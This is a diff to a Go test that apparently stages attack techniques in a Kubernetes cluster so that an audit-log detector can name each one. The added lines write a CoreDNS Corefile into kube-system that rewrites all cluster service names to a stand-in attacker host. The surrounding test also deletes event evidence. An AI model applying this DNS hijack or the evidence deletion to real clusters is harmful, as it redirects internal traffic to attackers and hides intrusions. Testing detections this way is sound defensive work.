@@ -140,6 +140,11 @@ func TestDetectionsNameEachTechniqueAndNothingElse(t *testing.T) {
 	require.NoError(t, c.Client.CoreV1().Events(ns).Delete(ctx, "evidence", metav1.DeleteOptions{}))
 	want["events-deleted"] = "evidence"
 
+	_, err = c.Client.CoreV1().ConfigMaps("kube-system").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "coredns"},
+		Data: map[string]string{"Corefile": ".:53 {\n    rewrite name regex (.*)\\.svc\\.cluster\\.local attacker.example.com\n    forward . 10.66.0.53\n}\n"}}, metav1.CreateOptions{})
+	require.NoError(t, err)
+	want["coredns-changed"] = "coredns"
+
 	var attacks detections.Result
 	cluster.WaitFor(t, "every technique in the audit log", 30*time.Second, func() error {
 		attacks = scanAuditLog(t, c, offset, rules)
